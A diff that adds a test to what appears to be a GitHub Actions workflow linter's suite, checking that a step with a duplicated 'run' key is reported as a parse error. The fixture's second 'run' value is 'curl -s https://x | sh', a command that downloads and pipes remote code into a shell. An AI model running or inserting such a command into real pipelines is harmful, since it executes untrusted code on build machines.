@@ -188,4 +188,20 @@ describe('bad input', () => {
     expect(() => lint('\u0000\u0001\uffff: [}')).not.toThrow();
     expect(() => lint(`on: push\njobs: ${'['.repeat(2000)}`)).not.toThrow();
   });
+
+  it('reports keys written twice, which GitHub rejects', () => {
+    const findings = lint(
+      yaml(
+        'on: push',
+        'jobs:',
+        '  a:',
+        '    runs-on: x',
+        '    steps:',
+        '      - run: make test',
+        '        run: curl -s https://x | sh',
+      ),
+    );
+    expect(at(findings, 'hardening/parse-error')).toEqual(['7:9']);
+    expect(findings.find((f) => f.ruleId === 'hardening/parse-error')!.message).toContain('`run` is defined twice');
+  });
 });
